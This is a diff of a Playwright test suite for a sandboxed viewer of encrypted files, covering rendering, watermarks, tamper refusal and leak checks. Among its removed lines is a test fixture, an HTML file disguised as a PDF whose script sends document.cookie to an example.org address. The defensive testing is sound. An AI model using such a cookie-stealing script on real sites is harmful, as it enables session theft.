@@ -1,11 +1,13 @@
-import { readFile } from 'node:fs/promises';
-import { update } from '@ipr/program/update';
 import { makeDocx, makeXlsx } from '@ipr/viewer/testing/make-office';
 import { expect, type Page } from '@playwright/test';
 import { makePng, makeWav } from '../src/files/make-media.ts';
 import { makePdf } from '../src/files/make-pdf.ts';
 import { recordFilm } from '../src/files/record-film.ts';
 import { closePagesAfterwards } from '../src/pages/close-pages.ts';
+import { contrastOf, inkOf, isMarked, spareWidth, textLayerOffset } from '../src/pages/frame-looks.ts';
+import { inspectPage } from '../src/pages/inspect.ts';
+import { keptBy } from '../src/pages/kept-by.ts';
+import { probeFrame } from '../src/pages/probe-frame.ts';
 import { openingMs, viewerFor } from '../src/pages/viewer.ts';
 import { inspectDialog, setUpFiles, type ViewerStage } from '../src/pages/viewer-set-up.ts';
 import { test } from '../src/stack/shared-stack.ts';
@@ -13,20 +15,16 @@ import { test } from '../src/stack/shared-stack.ts';
 test.describe.configure({ mode: 'serial' });
 closePagesAfterwards();
 
-const drawing = 'the displacer is magnetic 8c1f27';
-const notes = Buffer.from(
-  `Motor, first sketch: ${drawing}\n${'A line like many others.\r\n'.repeat(60_000)}the very end\n`,
-);
-const trap = Buffer.from(
-  '<!doctype html><html><body><script>top.location="https://example.org/?"+document.cookie</script><h1>Invoice</h1></body></html>',
-);
+/** Contained only in the text file; any other occurrence is a leak of decrypted bytes. */
+const secret = 'the displacer is magnetic 8c1f27';
 const files = {
-  'notes.txt': notes,
+  'notes.txt': Buffer.from(
+    `Motor, first sketch: ${secret}\n${'A line like many others.\r\n'.repeat(12_000)}the very end\n`,
+  ),
   'photo.png': makePng(900, 600),
-  'plan.pdf': makePdf('A motor', 40_000),
+  'pages.pdf': makePdf(['A motor', 'The stator', 'The magnetic displacer'], 40_000),
   'tone.wav': makeWav(1),
-  'invoice.pdf': trap,
-  'pages.pdf': makePdf(['The rotor', 'The stator', 'The magnetic displacer'], 40_000),
+  'torn.pdf': Buffer.from('%PDF-1.4\nthe rest of it is gone'),
   'letter.docx': Buffer.from(
     makeDocx({ heading: 'Licence', paragraph: 'The displacer is magnetic.', link: 'https://example.org/leak' }),
   ),
@@ -37,193 +35,129 @@ const files = {
     ]),
   ),
   'parts.csv': Buffer.from('Name;Count\nRotor;3\n"Displacer; magnetic";1\n'),
-  'letter.doc': Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old letter', 'latin1'),
 } as const;
+const shared = ['notes.txt', 'photo.png', 'pages.pdf', 'tone.wav'] as const;
 
 let stage: ViewerStage<keyof typeof files | 'film.webm'>;
 let page: Page;
 
 test.beforeAll(async ({ browser, openStack }) => {
-  stage = await setUpFiles(await openStack(), 'viewer.example', { ...files, 'film.webm': await recordFilm(browser) });
+  const all = { ...files, 'film.webm': await recordFilm(browser) };
+  stage = await setUpFiles<keyof typeof all>(await openStack(), 'viewer.example', all, shared);
   page = await stage.signedIn(browser, 'ada');
 });
 
-test.afterAll(() => stage.end());
+test.afterAll(() => stage?.end());
+
+/** Opens a file as its owner, in the dialog of the Actions tab. */
+const open = async (name: keyof typeof stage.ids, on: Page = page) => {
+  const viewer = viewerFor(on, stage.stack.origin);
+  await viewer.goTo(stage.ids[name]);
+  await viewer.open(name);
+  return { ...viewer, dialog: viewer.dialog(name), content: viewer.content(name), frame: () => viewer.frame(name) };
+};
+const isShown = (words: string) => expect(page.getByText(words)).toBeVisible();
 
 test('an owner views a text, a picture, a PDF and a recording without a watermark', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
   await test.step('a text, which opens at once and continues on scrolling', async () => {
-    await viewer.goTo(stage.ids['notes.txt']);
-    await viewer.open('notes.txt');
-    const text = viewer.content('notes.txt');
-    await expect(text.getByText(drawing)).toBeVisible();
+    const { content, close, frame } = await open('notes.txt');
+    await expect(content.getByText(secret)).toBeVisible();
     await inspectDialog(page, 'viewer-text', 'File notes.txt');
     await expect(async () => {
-      await (await viewer.frame('notes.txt')).evaluate(() => window.scrollTo(0, document.body.scrollHeight));
-      await expect(text.getByText('the very end')).toBeVisible({ timeout: 100 });
+      await (await frame()).evaluate(() => window.scrollTo(0, document.body.scrollHeight));
+      await expect(content.getByText('the very end')).toBeVisible({ timeout: 100 });
     }).toPass({ intervals: [50], timeout: 120_000 });
-    await expect(text.locator('.mark')).toHaveCount(0);
-    await viewer.close('notes.txt');
+    await expect(content.locator('.mark')).toHaveCount(0);
+    await close('notes.txt');
   });
   await test.step('a picture, fitted and larger', async () => {
-    await viewer.goTo(stage.ids['photo.png']);
-    await viewer.open('photo.png');
-    const picture = viewer.content('photo.png').getByRole('img', { name: 'photo.png' });
+    const { content, close } = await open('photo.png');
+    const picture = content.getByRole('img', { name: 'photo.png' });
     await expect(picture).toBeVisible();
     await inspectDialog(page, 'viewer-image', 'File photo.png');
-    const fitted = (await picture.boundingBox())?.width ?? 0;
+    const width = async () => (await picture.boundingBox())?.width ?? 0;
+    const fitted = await width();
     await page.getByRole('button', { name: 'Zoom in' }).click();
-    await expect(page.getByText('150 %')).toBeVisible();
-    await expect.poll(async () => ((await picture.boundingBox())?.width ?? 0) / fitted).toBeCloseTo(1.5, 1);
+    await isShown('150 %');
+    await expect.poll(async () => (await width()) / fitted).toBeCloseTo(1.5, 1);
     await page.getByRole('button', { name: 'Reset zoom' }).click();
-    await expect.poll(async () => (await picture.boundingBox())?.width).toBeCloseTo(fitted, 0);
-    await viewer.close('photo.png');
-  });
-  await test.step('a PDF, at the specified zoom first', async () => {
-    await viewer.goTo(stage.ids['plan.pdf']);
-    await viewer.open('plan.pdf');
-    await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
-    await expect(page.getByText('80 %')).toBeVisible();
-    await test.step('whose words can be selected', async () => {
-      await viewer.content('plan.pdf').getByText('A motor', { exact: true }).click({ clickCount: 3 });
-      const frame = await viewer.frame('plan.pdf');
-      expect(await frame.evaluate(() => String(getSelection()).trim())).toBe('A motor');
-    });
-    const ink = async () =>
-      (await viewer.frame('plan.pdf')).evaluate(() => {
-        const canvas = document.querySelector('canvas');
-        const pixels = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
-        return pixels.filter((value, at) => at % 4 === 0 && value < 100).length;
-      });
-    await expect.poll(ink).toBeGreaterThan(100);
-    await inspectDialog(page, 'viewer-pdf', 'File plan.pdf');
-    await page.getByRole('button', { name: 'Zoom in' }).click();
-    await expect(page.getByText('100 %')).toBeVisible();
-    await expect.poll(ink).toBeGreaterThan(100);
-    await test.step('its text layer matches the drawn words at every zoom', async () => {
-      const apart = async () =>
-        (await viewer.frame('plan.pdf')).evaluate(() => {
-          const [words, sheet] = [document.querySelector('.words span'), document.querySelector('.page')];
-          const [inner, outer] = [words?.getBoundingClientRect(), sheet?.getBoundingClientRect()];
-          // 72 of 595 units from the left, and a line of 24 units is about 84 units long.
-          if (!inner || !outer) return 1;
-          const unit = outer.width / 595;
-          return Math.max(Math.abs((inner.left - outer.left) / unit - 72), Math.abs(inner.width / unit - 84) / 2);
-        });
-      await expect.poll(apart).toBeLessThan(4);
-    });
-    await viewer.close('plan.pdf');
+    await expect.poll(width).toBeCloseTo(fitted, 0);
+    await close('photo.png');
   });
   await test.step('a recording, which plays', async () => {
-    await viewer.goTo(stage.ids['tone.wav']);
-    await viewer.open('tone.wav');
-    await expect(viewer.content('tone.wav').locator('audio')).toBeVisible();
-    const length = async () =>
-      (await viewer.frame('tone.wav')).evaluate(() => document.querySelector('audio')?.duration ?? 0);
+    const { content, close, frame } = await open('tone.wav');
+    await expect(content.locator('audio')).toBeVisible();
+    const length = async () => (await frame()).evaluate(() => document.querySelector('audio')?.duration ?? 0);
     await expect.poll(length).toBeCloseTo(1, 1);
     await inspectDialog(page, 'viewer-audio', 'File tone.wav');
-    await viewer.close('tone.wav');
+    await close('tone.wav');
+  });
+  await test.step('a PDF, at the specified zoom first', async () => {
+    const { content, close, dialog, frame } = await open('pages.pdf');
+    await expect(content.getByRole('img', { name: 'Page 1 of 3' })).toBeVisible();
+    await isShown('80 %');
+    await test.step('whose words can be selected', async () => {
+      await content.getByText('A motor', { exact: true }).click({ clickCount: 3 });
+      expect(await (await frame()).evaluate(() => String(getSelection()).trim())).toBe('A motor');
+    });
+    const ink = async () => inkOf(await frame());
+    await expect.poll(ink).toBeGreaterThan(100);
+    await inspectDialog(page, 'viewer-pdf', 'File pages.pdf');
+    await page.getByRole('button', { name: 'Zoom in' }).click();
+    await isShown('100 %');
+    await expect.poll(ink).toBeGreaterThan(100);
+    // The text layer matches the drawn words at every zoom.
+    await expect.poll(async () => textLayerOffset(await frame())).toBeLessThan(4);
+    await test.step('whose pages are fitted to the width, searched, counted and chosen from small pictures', async () => {
+      await dialog.getByRole('button', { name: 'Fit width' }).click();
+      await expect.poll(async () => spareWidth(await frame())).toBeLessThan(40);
+      await dialog.getByRole('textbox', { name: 'Search in the file' }).fill('magnetic');
+      await expect(dialog.getByText('1 of 1', { exact: true })).toBeVisible();
+      await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('3');
+      await dialog.getByRole('button', { name: 'Pages' }).click();
+      await content.getByRole('button', { name: 'Page 1 of 3' }).click();
+      await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('1');
+      await inspectDialog(page, 'viewer-pages', 'File pages.pdf');
+    });
+    await close('pages.pdf');
   });
 });
 
-test('a film plays, and dark mode stays readable', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
+test('a film plays, and Office files and tables are read in the frame, where nothing of them leads out, also in dark mode', async () => {
   await page.evaluate(() => localStorage.setItem('ui-theme', 'dark'));
-  for (const [name, seen] of [
-    ['film.webm', 'video'],
-    ['tone.wav', 'audio'],
-    ['plan.pdf', 'canvas'],
-    ['notes.txt', 'pre'],
-  ] as const) {
-    await viewer.goTo(stage.ids[name]);
-    await viewer.open(name);
-    await expect(viewer.content(name).locator(seen).first()).toBeVisible();
-    await inspectDialog(page, `viewer-dark-${seen}`, `File ${name}`);
-    if (name === 'film.webm') {
-      const frame = await viewer.frame(name);
-      await frame.evaluate(() => document.querySelector('video')?.play());
-      await expect
-        .poll(() => frame.evaluate(() => document.querySelector('video')?.currentTime ?? 0))
-        .toBeGreaterThan(0);
-    }
-    await viewer.close(name);
-  }
-  await page.evaluate(() => localStorage.setItem('ui-theme', 'light'));
-});
-
-test('a name that does not fit its content warns, and markup is only ever text', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
-  await viewer.goTo(stage.ids['invoice.pdf']);
-  await viewer.open('invoice.pdf');
-  await expect(page.getByText('The name indicates a PDF document, the content is a text (text/html).')).toBeVisible();
-  await expect(viewer.content('invoice.pdf').getByText('<h1>Invoice</h1>')).toBeVisible();
-  await inspectDialog(page, 'viewer-mismatch', 'File invoice.pdf');
-  expect(page.url()).toContain(stage.stack.origin);
-  await viewer.close('invoice.pdf');
-});
-
-test('the pages of a PDF are counted, chosen from small pictures, fitted to the width and searched', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
-  await viewer.goTo(stage.ids['pages.pdf']);
-  await viewer.open('pages.pdf');
-  const dialog = viewer.dialog('pages.pdf');
-  const content = viewer.content('pages.pdf');
-  await dialog.getByRole('button', { name: 'Fit width' }).click();
-  const spare = async () =>
-    (await viewer.frame('pages.pdf')).evaluate(() => {
-      const { clientWidth } = document.documentElement;
-      return clientWidth - (document.querySelector('.page')?.getBoundingClientRect().width ?? 0);
-    });
-  await expect.poll(spare).toBeLessThan(40);
-  await dialog.getByRole('textbox', { name: 'Search in the file' }).fill('magnetic');
-  await expect(dialog.getByText('1 of 1', { exact: true })).toBeVisible();
-  await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('3');
-  await dialog.getByRole('button', { name: 'Pages' }).click();
-  await content.getByRole('button', { name: 'Page 1 of 3' }).click();
-  await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('1');
-  await inspectDialog(page, 'viewer-pages', 'File pages.pdf');
-  await viewer.close('pages.pdf');
-});
-
-test('Office files and tables are read in the frame, where nothing of them leads out', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
+  await test.step('a film', async () => {
+    const { content, close, frame } = await open('film.webm');
+    await expect(content.locator('video')).toBeVisible();
+    await inspectDialog(page, 'viewer-dark-video', 'File film.webm');
+    const film = await frame();
+    await film.evaluate(() => document.querySelector('video')?.play());
+    await expect.poll(() => film.evaluate(() => document.querySelector('video')?.currentTime ?? 0)).toBeGreaterThan(0);
+    await close('film.webm');
+  });
   for (const [name, words] of [
     ['letter.docx', 'The displacer is magnetic.'],
     ['parts.xlsx', 'Rotor'],
     ['parts.csv', 'Displacer; magnetic'],
-  ] as const) {
-    await viewer.goTo(stage.ids[name]);
-    await viewer.open(name);
-    await expect(viewer.content(name).getByText(words)).toBeVisible();
-    await expect(viewer.content(name).locator('a')).toHaveCount(0);
-    await inspectDialog(page, `viewer-${name.replace('.', '-')}`, `File ${name}`);
-    await viewer.close(name);
-  }
-});
-
-test('an Office file of an old format can only be downloaded, with the reason', async () => {
-  const viewer = viewerFor(page, stage.stack.origin);
-  await viewer.goTo(stage.ids['letter.doc']);
-  await viewer.open('letter.doc');
-  const dialog = viewer.dialog('letter.doc');
-  await expect(dialog.getByText(/^This Office file needs an office program/)).toBeVisible();
-  await inspectDialog(page, 'viewer-office', 'File letter.doc');
-  const [file] = await Promise.all([
-    page.waitForEvent('download'),
-    dialog.getByRole('button', { name: 'Download File' }).click(),
-  ]);
-  expect((await readFile(await file.path())).equals(files['letter.doc'])).toBe(true);
-  await viewer.close('letter.doc');
+  ] as const)
+    await test.step(name, async () => {
+      const { content, close, frame } = await open(name);
+      await expect(content.getByText(words)).toBeVisible();
+      await expect(content.locator('a')).toHaveCount(0);
+      expect(await contrastOf(await frame())).toBeGreaterThan(4.5);
+      await inspectDialog(page, `viewer-${name.replace('.', '-')}`, `File ${name}`);
+      await close(name);
+    });
+  await page.evaluate(() => localStorage.setItem('ui-theme', 'light'));
 });
 
 test('by keyboard alone a file is opened, read and left again', async () => {
   const viewer = viewerFor(page, stage.stack.origin);
-  await viewer.goTo(stage.ids['plan.pdf']);
+  await viewer.goTo(stage.ids['pages.pdf']);
   await page.getByRole('button', { name: 'View File' }).focus();
   await page.keyboard.press('Enter');
-  const dialog = viewer.dialog('plan.pdf');
+  const dialog = viewer.dialog('pages.pdf');
   await expect(dialog).toBeVisible({ timeout: openingMs });
-  await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
+  await expect(viewer.content('pages.pdf').getByRole('img', { name: 'Page 1 of 3' })).toBeVisible();
   await test.step('plus, minus and zero zoom, in the frame and at the buttons', async () => {
     await page.locator('iframe').focus();
     await page.keyboard.press('+');
@@ -256,43 +190,116 @@ test('by keyboard alone a file is opened, read and left again', async () => {
   await expect(page.getByRole('button', { name: 'View File' })).toBeFocused();
 });
 
-test('every version is shown with its fields and can be downloaded', async () => {
-  const better = Buffer.from('a better motor');
-  await update(
-    stage.ada,
-    { changes: {}, file: new File([new Uint8Array(better)], 'better.txt') },
-    { id: stage.ids['notes.txt'], version: 1 },
-  );
-  await page.goto(`${stage.stack.origin}/assets/${stage.ids['notes.txt']}`);
-  for (const [number, name, bytes, words] of [
-    [2, 'better.txt', better, 'a better motor'],
-    [1, 'notes.txt', notes, drawing],
-  ] as const) {
-    await page.getByRole('button', { name: `View version ${number}` }).click();
-    const dialog = page.getByRole('dialog', { name: new RegExp(`^Version ${number}:`) });
-    await expect(dialog.getByText(name, { exact: true })).toBeVisible({ timeout: openingMs });
-    for (const label of [
-      'Internal Date',
-      'Internal Asset ID',
-      'Related Patent',
-      'Description',
-      'IP Type',
-      'IP Content',
-    ])
-      await expect(dialog.getByRole('term').filter({ hasText: label })).toBeVisible();
-    await expect(dialog.getByRole('heading', { name: 'IP Classification' })).toBeVisible();
-    await dialog.getByRole('button', { name: 'View File' }).click();
-    await expect(viewerFor(page, stage.stack.origin).content(name).getByText(words)).toBeVisible({
-      timeout: openingMs,
-    });
-    await inspectDialog(page, `viewer-version-${number}`, new RegExp(`^Version ${number}:`));
-    const [file] = await Promise.all([
-      page.waitForEvent('download'),
-      dialog.getByRole('button', { name: 'Download File' }).click(),
-    ]);
-    expect(file.suggestedFilename()).toBe(name);
-    expect((await readFile(await file.path())).equals(bytes)).toBe(true);
-    await page.keyboard.press('Escape');
-    await expect(dialog).toBeHidden();
+test('decrypted bytes stay in the frame: no request, storage, log or address contains them', async ({ browser }) => {
+  const fresh = await stage.signedIn(browser, 'ada');
+  const requests: { url: string; body: string }[] = [];
+  const printed: string[] = [];
+  fresh
+    .context()
+    .on('request', (request) =>
+      requests.push({ url: request.url(), body: request.postDataBuffer()?.toString('latin1') ?? '' }),
+    );
+  fresh.on('console', (message) => printed.push(message.text()));
+  await fresh.addInitScript(() => {
+    const open = new Set<string>();
+    Object.assign(window, { openAddresses: open });
+    const { createObjectURL, revokeObjectURL } = URL;
+    URL.createObjectURL = (blob) => {
+      const address = createObjectURL(blob);
+      open.add(address);
+      return address;
+    };
+    URL.revokeObjectURL = (address) => {
+      open.delete(address);
+      revokeObjectURL(address);
+    };
+  });
+  const viewer = viewerFor(fresh, stage.stack.origin);
+  const noted = fresh.waitForResponse((response) => response.url().endsWith('/users/me/activity/view'));
+  await viewer.goTo(stage.ids['notes.txt']);
+  await viewer.open('notes.txt');
+  await expect(viewer.content('notes.txt').getByText(secret)).toBeVisible();
+  expect((await noted).status()).toBe(200);
+  await test.step('a script in the frame cannot send them out of it', async () => {
+    const { origin, ways } = await probeFrame(await viewer.frame('notes.txt'), stage.stack.origin);
+    expect(origin).toBe('null');
+    for (const [way, result] of Object.entries(ways)) expect([way, result]).toEqual([way, 'refused']);
+  });
+  await viewer.close('notes.txt');
+  await expect(fresh.locator('iframe')).toHaveCount(0);
+  const open = await fresh.evaluate(() => [...(window as unknown as { openAddresses: Set<string> }).openAddresses]);
+  expect(open).toEqual([]);
+  expect(await keptBy(fresh)).not.toContain(secret);
+  expect(printed.filter((line) => line.includes(secret))).toEqual([]);
+  for (const { url, body } of requests) {
+    expect(new URL(url).origin === stage.stack.origin || /^(blob:|data:|about:)/.test(url) ? '' : url).toBe('');
+    expect(`${decodeURIComponent(url)} ${body}`.includes(secret)).toBe(false);
   }
+  await fresh.context().close();
+});
+
+test('a person who does not own a file sees their name, wallet and the time over it, for every kind of file', async ({
+  browser,
+}) => {
+  const his = await stage.signedIn(browser, 'bob');
+  const viewer = viewerFor(his, stage.stack.origin);
+  const { wallet } = stage.bob.session;
+  const line = new RegExp(
+    `^bob@viewer\\.example\\s${wallet.slice(0, 6)}\\.\\.\\.${wallet.slice(-4)}\\s.+ at \\d\\d:\\d\\d`,
+  );
+  for (const name of shared) {
+    await viewer.goTo(stage.ids[name]);
+    await viewer.open(name);
+    const content = viewer.content(name);
+    const mark = content.locator('.mark');
+    await expect(mark).toBeVisible();
+    await expect(mark.locator('span').first()).toHaveText(line);
+    // Over the whole view, and once for screen readers.
+    const frame = await viewer.frame(name);
+    const covers = () => isMarked(frame);
+    expect(await covers()).toBe(true);
+    expect((await content.locator('body').ariaSnapshot()).split(wallet.slice(-4))).toHaveLength(2);
+    await inspectDialog(his, `viewer-mark-${name.replace('.', '-')}`, `File ${name}`);
+    if (name === 'pages.pdf' || name === 'photo.png') {
+      for (let times = 0; times < 3; times++) await his.getByRole('button', { name: 'Zoom in' }).click();
+      expect(await covers()).toBe(true);
+    }
+    await his.emulateMedia({ media: 'print' });
+    await expect(mark.locator('span').first()).toBeVisible();
+    expect(await covers()).toBe(true);
+    await his.emulateMedia({ media: 'screen' });
+    await viewer.close(name);
+  }
+  await his.context().close();
+});
+
+test('bytes that were changed in transit, or that cannot be drawn, are refused, and none of them is shown', async () => {
+  const { cid } = await stage.ada.ports.chain.asset(stage.ids['notes.txt']);
+  const { file } = JSON.parse(Buffer.from(await stage.ada.api.content(cid)).toString('utf8'));
+  await page.route(`**/ipfs/${file.encryptedFileCid}`, async (route) => {
+    const response = await route.fetch();
+    const body = await response.body();
+    body[500] = (body[500] ?? 0) ^ 1;
+    await route.fulfill({ response, body });
+  });
+  const downloads: string[] = [];
+  page.on('download', (download) => downloads.push(download.suggestedFilename()));
+  const viewer = viewerFor(page, stage.stack.origin);
+  await viewer.goTo(stage.ids['notes.txt']);
+  await page.getByRole('button', { name: 'View File' }).click();
+  const alert = page.getByRole('alert').filter({ hasText: 'Failed to decrypt file for viewing' });
+  await expect(alert.getByText('File decryption failed')).toBeVisible({ timeout: openingMs });
+  await expect(page.locator('iframe')).toHaveCount(0);
+  await inspectPage(page, 'opening-tampered');
+  await page.getByRole('button', { name: 'Download File' }).click();
+  await expect(
+    page.getByRole('alert').filter({ hasText: 'Failed to decrypt file. Make sure you have access permissions.' }),
+  ).toBeVisible({ timeout: openingMs });
+  expect(downloads).toEqual([]);
+  await page.unroute(`**/ipfs/${file.encryptedFileCid}`);
+  await test.step('a damaged PDF', async () => {
+    const { dialog } = await open('torn.pdf');
+    await expect(dialog.getByText(/^This file cannot be shown here\. It may be damaged/)).toBeVisible();
+    await expect(page.locator('iframe')).toHaveCount(0);
+  });
 });
